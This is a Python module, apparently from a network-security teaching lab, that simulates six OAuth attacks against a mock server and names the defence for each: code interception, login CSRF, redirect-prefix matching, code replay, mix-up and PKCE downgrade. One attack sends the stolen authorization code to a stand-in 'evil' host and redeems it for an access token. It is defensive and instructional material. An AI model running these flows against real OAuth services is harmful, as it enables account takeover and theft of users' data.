"""Attacks on the code, and on the way that it takes."""

import json
from urllib.parse import urlencode

from netlab.experiments.oauth.application import Application, challenge_of
from netlab.experiments.oauth.attacks.scene import API, ISSUER, NATIVE, OTHER, Scene
from netlab.experiments.oauth.attacks.table import Outcome, attack
from netlab.experiments.oauth.refusing import Stopped
from netlab.experiments.oauth.speaking import query_of
from netlab.network.http1 import Reply

VERIFIER = "the-attacker-knows-this-one-for-he-has-made-it-up"


@attack(
    name="code-interception", named="pkce", at="token endpoint",
    sentence="Another program on the same device takes the redirect, and redeems the code.",
    needs="a public client, and an attacker who owns the redirect's port",
    server=("pkce", "require_pkce"), client=("pkce",),
    others="a redirect that no other program can claim (https links of one's own, RFC 8252 §7.2)",
)  # fmt: skip
async def interception(scene: Scene) -> Outcome:
    app = await scene.application()
    await app.listener.__aexit__()
    listener = await scene.listens()
    app.port = listener.port  # whoever listens there gets what browsers bring
    url = app.authorization_url()
    scene.move("the application", "sends Alice's browser off")
    await scene.browser.follow(await scene.approved(url))
    code = query_of(scene.visited[-1])["code"]
    scene.move("the attacker", "listens at the redirect's port, and has the code")
    token = await scene.redeem({
        "grant_type": "authorization_code", "code": code, "client_id": NATIVE,
        "redirect_uri": app.redirect_uri,
    })  # fmt: skip
    scene.move("the attacker", "redeems it: a public client needs no secret")
    return Outcome(await scene.photos(token["access_token"]))


@attack(
    name="login-csrf", named="state", at="callback",
    sentence="You are slipped the attacker's code, and work in his account without knowing.",
    needs="an application that takes any answer",
    server=("pkce", "require_pkce"), client=("state", "pkce"), also=("pkce",),
    others="PKCE, as your browser has no verifier for his code",
)  # fmt: skip
async def csrf(scene: Scene) -> Outcome:
    app = await scene.application()
    his = scene.another("attacker")
    reply = await scene.approved(f"{app.url}/connect", "bob", his)
    scene.move("the attacker", "logs in as himself, and keeps the callback's address")
    await scene.browser.get(reply.header("location"))
    scene.move("Alice's browser", "is led to that address")
    if app.stopped is not None:
        raise app.stopped
    status, answer, _ = await app.use()
    owner = str(answer.get("owner", ""))
    if status != 200 or not owner.startswith("bob"):
        return Outcome()
    return Outcome("Alice at work in the account of Bob, who is the attacker")


@attack(
    name="redirect-prefix", named="exact_redirect", at="authorization endpoint",
    sentence="The server compares redirect URIs by how they begin: the code goes elsewhere.",
    needs="a server that matches by prefix; the attacker starts the flow with his own challenge",
    server=("exact_redirect",), others="nothing that this server has",
)  # fmt: skip
async def prefix(scene: Scene) -> Outcome:
    app = await scene.application(client_id="", auth_method="none")
    listener = await scene.listens()
    host = f"photos.localhost.evil.localhost:{listener.port}"
    scene.world.actors[host] = "attacker"
    await registered(scene, app, "http://photos.localhost")
    evil = f"http://{host}/callback"
    asked = {
        "response_type": "code", "client_id": app.client_id, "redirect_uri": evil,
        "scope": "photos.read", "code_challenge": challenge_of(VERIFIER),
        "code_challenge_method": "S256",
    }  # fmt: skip
    scene.move("the attacker", f"makes a link whose answer goes to {host}")
    await scene.browser.follow(await scene.approved(f"{ISSUER}/authorize?{urlencode(asked)}"))
    code = query_of(scene.visited[-1])["code"]
    scene.move("Alice", "follows the link, and approves what she knows")
    token = await scene.redeem({
        "grant_type": "authorization_code", "code": code, "client_id": app.client_id,
        "redirect_uri": evil, "code_verifier": VERIFIER,
    })  # fmt: skip
    return Outcome(await scene.photos(token["access_token"]))


async def registered(scene: Scene, app: Application, uri: str) -> None:
    """The application registers, too loosely for its own good."""
    wanted = {"redirect_uris": [uri], "token_endpoint_auth_method": "none"}
    fields = (("Content-Type", "application/json"),)
    reply = await app.speaker.ask("POST", f"{ISSUER}/register", fields, json.dumps(wanted).encode())
    app.client_id = str(json.loads(reply.body)["client_id"])
    scene.move("the application", f"registers {uri}")


@attack(
    name="code-replay", named="single_use_code", at="token endpoint",
    sentence="A code that was used already is used again, from a log or a history.",
    needs="a public client without PKCE, and a server that takes codes twice",
    server=("single_use_code", "pkce", "require_pkce"), client=("pkce",), also=("pkce",),
    others="PKCE",
)  # fmt: skip
async def replay(scene: Scene) -> Outcome:
    app = await scene.application()
    reply = await scene.approved(f"{app.url}/connect")
    code = query_of(reply.header("location"))["code"]
    await scene.browser.follow(reply)
    if app.stopped is not None:
        raise app.stopped
    scene.move("the application", "redeems its code, as it should")
    scene.move("the attacker", "reads the callback's address in Alice's history")
    token = await scene.redeem({
        "grant_type": "authorization_code", "code": code, "client_id": NATIVE,
        "redirect_uri": app.redirect_uri,
    })  # fmt: skip
    return Outcome(await scene.photos(token["access_token"]))


@attack(
    name="mix-up", named="iss", at="callback",
    sentence="An application with two servers is made to bring one server's code to the other.",
    needs="two authorization servers, one redirect URI, a public client",
    server=("iss",), client=("iss",), others="a redirect URI of its own for each server",
    more=("rogue",),
)  # fmt: skip
async def mix_up(scene: Scene) -> Outcome:
    app = await scene.application(issuer=OTHER, api=API)
    scene.move("Alice", "chooses the attacker's server at the application")
    reply = await scene.approved(f"{app.url}/connect")
    scene.move("the attacker's server", "passes her on to the honest one, where she logs in")
    await scene.browser.follow(reply)
    if app.stopped is not None and getattr(app.stopped, "where", "") == "callback":
        raise app.stopped
    scene.move("the application", "brings the code to the attacker's server")
    entries = await scene.world.bench.network.journal()
    looted = [
        e for e in entries if e.service == "web:auth.example.net" and e.event == "oauth.looted"
    ]
    if not looted:
        return Outcome()
    return Outcome(f"Alice's photos: {looted[-1].detail.get('photos')}")


@attack(
    name="pkce-downgrade", named="refuse_verifier_without_challenge", at="token endpoint",
    sentence="The challenge is stripped on the way, and the server looks at no verifier then.",
    needs="a server at which PKCE is optional, and an application that relies on it alone",
    server=("refuse_verifier_without_challenge", "require_pkce"), also=("require_pkce",),
    others="the server's insisting on a challenge from everybody",
)  # fmt: skip
async def downgrade(scene: Scene) -> Outcome:
    app = await scene.application()
    begun = await scene.browser.get(f"{app.url}/connect")
    scene.move("Alice's browser", "begins a flow of its own, with a challenge")
    asked = query_of(begun.header("location"))
    for name in ("code_challenge", "code_challenge_method"):
        asked.pop(name, None)
    his = scene.another("attacker")
    reply = await scene.approved(f"{ISSUER}/authorize?{urlencode(asked)}", "bob", his)
    scene.move("the attacker", "asks in his own name without a challenge, and keeps his code")
    await scene.browser.get(reply.header("location"))
    scene.move("Alice's browser", "is led to the callback with his code")
    if app.stopped is not None:
        raise await judged(scene, app.stopped)
    _, answer, _ = await app.use()
    if not str(answer.get("owner", "")).startswith("bob"):
        return Outcome()
    return Outcome("Alice at work in the account of Bob, who is the attacker")


async def judged(scene: Scene, stopped: Exception) -> Exception:
    """With the rule that the server's journal gives."""
    if not isinstance(stopped, Stopped) or stopped.where != "token endpoint":
        return stopped
    return await scene.refusal(stopped.where, Reply(400, "", (), b""))
